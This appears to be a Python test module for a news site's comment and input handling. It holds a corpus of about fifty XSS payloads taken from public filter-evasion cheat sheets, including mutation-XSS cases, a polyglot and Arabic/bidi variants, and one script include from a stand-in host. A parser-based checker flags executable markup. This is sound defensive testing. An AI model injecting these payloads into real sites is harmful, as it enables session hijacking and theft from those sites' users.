"""A corpus of XSS payloads, and a checker for executable markup in a page.

Every payload that runs script does so by setting ``window.__xss`` (or calling
``alert``), so the browser test can tell after a page has loaded whether any of
them ran: ``window.__xss`` stays undefined, ``document.title`` unchanged, and no
alert is open. Sources: the OWASP XSS filter-evasion cheat sheet, PortSwigger's
XSS cheat sheet, known mutation-XSS (mXSS) cases, plus Arabic text and bidi
control characters around them, as Khabar's readers would type them.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

JS = "window.__xss=1"

PAYLOADS: list[str] = [
    # <script> in its many spellings
    f"<script>{JS}</script>",
    f"<ScRiPt>{JS}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</textarea><script>{JS}</script>",
    f"<svg><script>{JS}</script></svg>",
    # event handlers, odd casing, broken tags
    f"<img src=x onerror={JS}>",
    f'<IMG SRC=x OnErRoR="{JS}">',
    f'<img src="x" onerror="{JS}"',
    f"<img src=x onerror={JS}//",
    f'<img src="x" alt="`" onerror="{JS}">',
    f"<svg onload={JS}>",
    f"<svg/onload={JS}>",
    f"<body onload={JS}>",
    f"<details open ontoggle={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<video><source onerror={JS}></video>",
    # URLs with script
    f'<a href="javascript:{JS}">اضغط هنا</a>',
    f'<a href="JaVaScRiPt:{JS}">x</a>',
    f'<a href=" javascript:{JS}">x</a>',
    f'<a href="jav&#x09;ascript:{JS}">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
    f'{JS}">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
    f'<iframe srcdoc="<script>parent.{JS[7:]}</script>"></iframe>',
    f'<iframe src="javascript:parent.{JS[7:]}"></iframe>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="javascript:{JS}">',
    f'<form><button formaction="javascript:{JS}">x</button></form>',
    f'<svg><a xlink:href="javascript:{JS}"><text x="20" y="20">XSS</text></a></svg>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    '<base href="javascript:/">',
    # CSS
    f'<div style="width:expression({JS})">x</div>',
    f'<div style="background:url(javascript:{JS})">x</div>',
    f"<style>@import 'javascript:{JS}';</style>",
    # entity- and URL-encoded (must stay text)
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"%3Cscript%3E{JS}%3C/script%3E",
    # mutation XSS
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    # polyglot (Ahmed Elsobky's, with our marker)
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__xss=1 )//%0D%0A%0d%0a"
    "//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__xss=1//>\\x3e",
    # Arabic text and bidi controls around payloads
    f"خبر عاجل <script>{JS}</script> من دمشق",
    f"تعليق \u202e<img src=x onerror={JS}>\u202c انتهى",
    f"\u202etpircs/<{JS}>tpircs<\u202c مرحبا",
    f"«اقتباس» <svg onload={JS}> \u200fنهاية",
    # auto-linked comment URLs trying to break out of the attribute
    f'https://example.com/"onmouseover="{JS}',
    f"https://example.com/<script>{JS}</script>",
    # template syntax must stay text
    "{{ request.META }} {% debug %}",
]

#: Payloads for fields with a length limit (names, titles): the short ones.
SHORT = [p for p in PAYLOADS if len(p) <= 100]

_SCRIPT_URL = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.IGNORECASE)
_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}
_FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet"}
_CONTROL = re.compile(r"[\x00-\x20\x7f]+")


class _Finder(HTMLParser):
    """Collects every piece of markup that could run script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "style":
            self._in_style = False

    def handle_data(self, data):
        if self._in_style and re.search(
            r"expression|javascript:|@import", data, re.IGNORECASE
        ):
            self.problems.append(f"<style>{data[:40]!r}")

    def _check(self, tag, attrs):
        attributes = dict(attrs)
        self._in_style = tag == "style"
        if tag == "script":
            kind = (attributes.get("type") or "").lower()
            src = attributes.get("src") or ""
            if kind != "application/ld+json" and not src.startswith("/static/"):
                self.problems.append(f"<script {attributes}>")
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta refresh>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
            if name in _URL_ATTRS and _SCRIPT_URL.match(_CONTROL.sub("", value)):
                if not (tag == "img" and value.startswith("data:image/")):
                    self.problems.append(f"<{tag} {name}={value[:40]!r}>")
            if name == "style" and re.search(
                r"expression|javascript:|url\(", value, re.IGNORECASE
            ):
                self.problems.append(f"<{tag} style={value[:40]!r}>")


def executable_markup(html: str) -> list[str]:
    """Everything in ``html`` that could run script, described; [] when clean."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    return finder.problems


def assert_no_payload_executable(html: str, where: str) -> None:
    problems = executable_markup(html)
    assert not problems, f"{where}: executable markup {problems[:5]}"
    for payload in PAYLOADS:
        if "<" in payload:
            assert payload not in html, f"{where}: payload unescaped: {payload[:60]!r}"
